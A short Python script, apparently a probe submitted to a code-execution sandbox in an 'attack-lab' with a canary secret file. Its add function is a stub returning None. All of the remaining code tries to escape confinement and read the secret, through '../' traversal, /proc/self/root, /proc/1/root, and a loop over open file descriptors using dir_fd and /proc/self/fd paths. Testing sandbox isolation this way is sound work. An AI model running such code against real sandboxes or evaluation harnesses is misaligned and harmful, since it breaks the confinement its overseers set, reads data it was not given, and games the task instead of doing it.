# TRIES: climb out through folders and descriptors
def add(a, b): return None
import os
secret = "tmp/attack-lab/canary/secret.txt"
for path in ("../" * 20 + secret, "/./" + secret, "/proc/self/root/" + secret, "/proc/1/root/" + secret, "/proc/self/cwd/../" + secret):
    try:
        print(open(path).read())
    except OSError as error:
        print(error)
for fd in range(64):
    for up in ("../" * 12, "./", ""):
        try:
            print(os.read(os.open(up + secret, os.O_RDONLY, dir_fd=fd), 100))
        except (OSError, ValueError):
            pass
        try:
            print(open(f"/proc/self/fd/{fd}/{up}{secret}").read())
        except OSError:
            pass
